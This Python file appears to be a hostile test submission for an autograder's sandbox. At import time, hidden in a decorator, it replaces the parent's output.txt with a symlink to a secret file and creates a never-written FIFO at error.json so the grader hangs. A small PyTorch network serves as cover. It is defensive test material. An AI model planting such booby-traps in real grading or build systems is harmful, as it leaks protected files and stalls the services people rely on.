"""Hostile: booby-traps the job folder for the parent, which reads it after the worker ends.

  - output.txt (where the parent collects what the submission printed) is replaced by a symlink to
    SECRET_FILE, a file the parent can read and the worker cannot (under bubblewrap it is not even
    visible). If the parent follows it, the file's tail lands in the student's report.
  - out/error.json (which the parent reads after the worker exits) is created as a FIFO that nobody
    ever writes. If the parent opens it, it blocks forever: the grader hangs.

Expected: the grade finishes (the model is fine), the report holds none of SECRET_FILE, and the
parent never blocks.
"""
import os
from pathlib import Path

import torch.nn as nn
import torch.nn.functional as F

SECRET_FILE = "@@SECRET_FILE@@"
@lambda run: run()  # runs at import: the loading rule keeps definitions, and a decorator is part of one
def _at_import():
    global JOB
    JOB = Path.cwd().parent

    (JOB / "output.txt").unlink()
    os.symlink(SECRET_FILE, JOB / "output.txt")
    os.mkfifo(JOB / "out" / "error.json")


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 8, 3, padding=1)
        self.bn = nn.BatchNorm2d(8)
        self.drop = nn.Dropout(0.1)
        self.head = nn.Conv2d(8, 10, 1)

    def forward(self, x):
        x = self.drop(F.relu(self.bn(self.conv(x))))
        return self.head(x).mean(dim=(2, 3))
